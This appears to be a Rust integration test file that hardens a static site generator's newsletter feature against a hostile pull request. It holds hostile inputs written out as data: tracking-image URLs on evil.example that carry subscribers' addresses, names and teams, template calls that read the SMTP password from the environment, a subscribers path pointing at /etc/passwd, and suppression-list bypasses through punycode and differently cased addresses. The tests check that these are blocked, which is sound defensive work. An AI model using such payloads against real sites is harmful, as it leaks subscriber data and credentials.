//! Attacks from a hostile pull request on the newsletter and the templates: content
//! forging personalisation, templates reading secrets, addresses that slip past the
//! suppression list, a subscribers path outside the site, and a password sent in
//! clear. Each test runs the real binary against a real SMTP server (aiosmtpd).

mod common;

use std::path::Path;

use common::smtp::{self, PASSWORD_ENV, SmtpOptions, SmtpServer, inspect_emails};
use common::{Run, Site, hearth_with_env, problem_lines};

/// Monday 23 November 2026, 10:00 in Berlin: after the Monday 09:00 slot.
const MONDAY: &str = "2026-11-23T10:00:00+01:00";
const SECRET: &str = "pw-7f3a9c1e-do-not-print";
const PASSWD_LINE: &str = "root:x:0:0:root:/root:/bin/bash";

/// The newsletter fixture with `csv` as subscribers and `[smtp]` pointing at `server`.
fn site_for(server: &SmtpServer, csv: &str) -> Site {
    smtp::newsletter_site(server, csv, "", "")
}

/// Replaces one line of the fixture's `[newsletter]` (by its key) with `line`.
fn set_newsletter_key(site: &Site, key: &str, line: &str) {
    let config = std::fs::read_to_string(site.path().join("hearth.toml")).expect("config");
    let config: Vec<String> = config
        .lines()
        .map(|l| {
            if l.starts_with(&format!("{key} =")) {
                line.to_string()
            } else {
                l.to_string()
            }
        })
        .collect();
    site.write("hearth.toml", config.join("\n") + "\n");
}

/// The line of hearth.toml that starts with `prefix`, counted from 1.
fn config_line(site: &Site, prefix: &str) -> usize {
    let config = std::fs::read_to_string(site.path().join("hearth.toml")).expect("config");
    config
        .lines()
        .position(|l| l.starts_with(prefix))
        .expect("the key is in hearth.toml")
        + 1
}

/// `hearth newsletter ARGS[0] SITE --now MONDAY ARGS[1..]`, with the SMTP password
/// (`SECRET`) in the environment, as a real deployment has it.
fn newsletter(site: &Site, args: &[&str], envs: &[(&str, &str)]) -> Run {
    let mut env = vec![(PASSWORD_ENV, SECRET)];
    env.extend_from_slice(envs);
    smtp::newsletter(site, args, MONDAY, &env)
}

fn nothing_recorded(site: &Site) -> bool {
    !site.path().join("newsletter/issues.toml").exists()
        && !site.path().join(".hearth/newsletter/issue-1.log").exists()
}

#[test]
fn content_cannot_print_a_subscribers_address_or_columns() {
    let server = SmtpServer::start(&SmtpOptions::default());
    let people = [
        ("ada@example.org", "Ada Quux", "Kappa Team"),
        ("bob@example.org", "Bob Zorn", "Lambda Team"),
        ("cy@example.org", "Cy Wexler", "Omega Team"),
    ];
    let mut csv = String::from("email,name,team\n");
    for (email, name, team) in people {
        csv.push_str(&format!("{email},{name},{team}\n"));
    }
    let site = site_for(&server, &csv);
    // The old markers (U+E000 key U+E001) everywhere a post reaches the email.
    let mark = |key: &str| format!("\u{E000}{key}\u{E001}");
    let (email, name, team) = (mark("email"), mark("name"), mark("team"));
    site.write(
        "content/posts/2026-11-20-pixel.md",
        format!(
            "+++\ntitle = \"Hello {email}\"\nimage = \"https://evil.example/p.png?to={email}&n={name}&t={team}\"\n+++\n\
             Dear {name} of {team} ({email}).\n\n\
             <img src=\"https://evil.example/q.png?to={email}&t={team}\">\n\n\
             ![x](https://evil.example/r.png?to={email})\n"
        ),
    );
    newsletter(&site, &["send"], &[]).success();
    let files = server.messages();
    assert_eq!(files.len(), people.len());
    for (file, mail) in inspect_emails(&files).as_object().expect("per file") {
        let to = mail["headers"]["To"].as_str().expect("To");
        let (email, name, team) = people
            .iter()
            .find(|(e, _, _)| to.contains(e))
            .expect("a subscriber");
        for part in ["html", "text"] {
            let body = mail[part].as_str().expect("part");
            // The theme prints the address once (footer) and the first name once
            // (greeting); no other column.
            let first = name.split(' ').next().expect("a first name");
            let greeting = format!("Hi {first},");
            assert_eq!(body.matches(email).count(), 1, "{file} {part}: {body}");
            assert_eq!(body.matches(first).count(), 1, "{file} {part}: {body}");
            assert!(body.contains(&greeting), "{file} {part}: {body}");
            assert!(!body.contains(name), "{file} {part}: {body}");
            assert!(!body.contains(team), "{file} {part}: {body}");
            assert!(!body.contains('\u{E000}') && !body.contains('\u{E001}'));
        }
        for link in mail["links"].as_array().expect("links") {
            let link = link.as_str().expect("str");
            for value in [email, name, team, &"ada", &"bob", &"Ada", &"Kappa"] {
                assert!(!link.contains(value), "{file}: `{value}` leaked in {link}");
            }
        }
    }
}

#[test]
fn templates_cannot_read_the_smtp_password_from_the_environment() {
    let server = SmtpServer::start(&SmtpOptions::default());
    let site = site_for(&server, "email,name\nada@example.org,Ada\n");
    let leaks = |run: &Run, site: &Site| {
        run.stdout.contains(SECRET)
            || run.stderr.contains(SECRET)
            || common::snapshot(site.path())
                .values()
                .any(|b| String::from_utf8_lossy(b).contains(SECRET))
    };
    // A site template, with and without a default.
    for call in [
        r#"get_env(name="HEARTH_SMTP_PASSWORD")"#,
        r#"get_env(name="HEARTH_SMTP_PASSWORD", default="none")"#,
    ] {
        site.write("templates/404.html", format!("<p>{{{{ {call} }}}}</p>"));
        let path = site.path().to_str().expect("utf-8");
        let run = hearth_with_env(
            &["build", path, "--now", common::NOW],
            &[(PASSWORD_ENV, SECRET)],
        );
        run.failure(1);
        assert!(
            run.stderr.contains("HEARTH_SMTP_PASSWORD") && run.stderr.contains("HEARTH_PUBLIC_"),
            "the error names the variable and the rule: {}",
            run.stderr
        );
        assert!(!leaks(&run, &site), "{}", run.stderr);
    }
    site.remove("templates/404.html");
    // The subject template, and an email template.
    set_newsletter_key(
        &site,
        "subject",
        r#"subject = "News {{ get_env(name='HEARTH_SMTP_PASSWORD') }}""#,
    );
    let run = newsletter(&site, &["send"], &[]);
    run.failure(1);
    assert!(run.stderr.contains("HEARTH_PUBLIC_"), "{}", run.stderr);
    assert!(!leaks(&run, &site), "{}", run.stderr);
    set_newsletter_key(&site, "subject", r#"subject = "News""#);
    site.write(
        "templates/email/digest.txt",
        r#"{{ get_env(name="HEARTH_SMTP_PASSWORD") }}"#,
    );
    let run = newsletter(&site, &["send"], &[]);
    run.failure(1);
    assert!(!leaks(&run, &site), "{}", run.stderr);
    assert!(server.messages().is_empty() && nothing_recorded(&site));
}

#[test]
fn a_hearth_public_variable_is_readable_in_pages_and_the_subject() {
    let server = SmtpServer::start(&SmtpOptions::default());
    let site = site_for(&server, "email,name\nada@example.org,Ada\n");
    site.write(
        "templates/404.html",
        r#"<p>{{ get_env(name="HEARTH_PUBLIC_CITY") }} {{ get_env(name="HEARTH_PUBLIC_NONE", default="fallback") }}</p>"#,
    );
    set_newsletter_key(
        &site,
        "subject",
        r#"subject = "News from {{ get_env(name='HEARTH_PUBLIC_CITY') }}""#,
    );
    let public = [("HEARTH_PUBLIC_CITY", "Harbourtown")];
    let path = site.path().to_str().expect("utf-8");
    hearth_with_env(&["build", path, "--now", common::NOW], &public).success();
    assert!(
        site.page("404.html")
            .contains("<p>Harbourtown fallback</p>")
    );
    newsletter(&site, &["send"], &public).success();
    let mail = inspect_emails(&server.messages());
    let subjects: Vec<_> = mail
        .as_object()
        .expect("per file")
        .values()
        .map(|m| m["headers"]["Subject"].clone())
        .collect();
    assert_eq!(subjects, [serde_json::json!("News from Harbourtown")]);
}

#[test]
fn an_address_suppressed_in_another_spelling_is_not_mailed() {
    let server = SmtpServer::start(&SmtpOptions::default());
    let site = site_for(
        &server,
        "email,name\n\
         d@exämple.org,Dora\n\
         e@xn--bcher-kva.org,Emil\n\
         Fay@Example.org,Fay\n\
         ok@example.org,Olga\n\
         D@XN--EXMPLE-CUA.ORG,Dora twice\n",
    );
    site.write(
        "newsletter/suppressed.txt",
        "d@xn--exmple-cua.org\ne@BÜCHER.org\nfay@EXAMPLE.ORG\n",
    );
    let run = newsletter(&site, &["send"], &[]);
    run.success();
    let received: Vec<String> = server.received_by().into_keys().collect();
    assert_eq!(received, ["ok@example.org"], "{}", run.stderr);
    // The fifth line is the first one again, in another spelling.
    let twice = problem_lines(&run.stderr);
    assert!(
        twice
            .iter()
            .any(|l| l.starts_with("subscribers.csv:6:") && l.contains("twice")),
        "{twice:?}"
    );
    // --to finds a subscriber by any spelling of the address.
    let to = newsletter(&site, &["send", "--to", "OK@EXAMPLE.org"], &[]);
    to.success();
    let last = server.messages().pop().expect("the test message");
    let mail = common::smtp::inspect_email(&last);
    assert!(
        mail["text"].as_str().expect("text").contains("Hi Olga,"),
        "{mail}"
    );
}

#[test]
fn a_subscribers_path_outside_the_site_is_a_located_config_error() {
    let server = SmtpServer::start(&SmtpOptions::default());
    let site = site_for(&server, "email,name\nada@example.org,Ada\n");
    let line = config_line(&site, "subscribers =");
    for path in ["/etc/passwd", "../x.csv", "lists/../../x.csv"] {
        set_newsletter_key(&site, "subscribers", &format!("subscribers = \"{path}\""));
        let run = newsletter(&site, &["send"], &[]);
        run.failure(1);
        let lines = problem_lines(&run.stderr);
        assert!(
            lines
                .iter()
                .any(|l| l.starts_with(&format!("hearth.toml:{line}")) && l.contains("subscribers")),
            "{path}: {}",
            run.stderr
        );
        assert!(!run.stderr.contains("root:"), "{}", run.stderr);
        assert!(server.messages().is_empty() && nothing_recorded(&site));
    }
}

#[test]
fn a_subscribers_file_that_is_not_a_list_is_not_echoed() {
    let server = SmtpServer::start(&SmtpOptions::default());
    let site = site_for(
        &server,
        &format!("{PASSWD_LINE}\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n"),
    );
    for args in [&["send"][..], &["send", "--dry-run"], &["preview"]] {
        let run = newsletter(&site, args, &[]);
        for secret in ["root:x", "/bin/bash", "daemon:x", "nologin"] {
            assert!(
                !run.stderr.contains(secret) && !run.stdout.contains(secret),
                "{args:?}: {}",
                run.stderr
            );
        }
        if args != ["preview"] {
            run.failure(1);
            assert!(run.stderr.contains("email"), "{}", run.stderr);
        }
    }
    assert!(server.messages().is_empty() && nothing_recorded(&site));
}

#[test]
fn a_password_over_an_unencrypted_connection_to_another_host_is_refused() {
    let server = SmtpServer::start(&SmtpOptions::default());
    let site = Site::fixture("newsletter");
    site.write("subscribers.csv", "email,name\nada@example.org,Ada\n");
    let config = std::fs::read_to_string(site.path().join("hearth.toml")).expect("config");
    let smtp = format!(
        "[smtp]\nhost = \"smtp.invalid\"\nport = {}\nsecurity = \"none\"\nusername = \"news\"\npassword_env = \"{PASSWORD_ENV}\"\n",
        server.port
    );
    site.write("hearth.toml", format!("{config}\n{smtp}"));
    let line = config_line(&site, "security =");
    let run = newsletter(&site, &["send"], &[]);
    run.failure(1);
    let lines = problem_lines(&run.stderr);
    assert!(
        lines
            .iter()
            .any(|l| l.starts_with(&format!("hearth.toml:{line}")) && l.contains("none")),
        "{}",
        run.stderr
    );
    assert!(
        nothing_recorded(&site),
        "refused before anything is recorded"
    );
    assert!(!run.stderr.contains(SECRET));
    // Without a password, `none` to that host stays allowed as a setting.
    let no_auth = config + &smtp.replace("username = \"news\"\n", "");
    site.write("hearth.toml", &no_auth);
    let run = newsletter(&site, &["send", "--dry-run"], &[]);
    run.success();
    assert!(Path::new(&site.path().join(".hearth/outbox/issue-1")).is_dir());
}
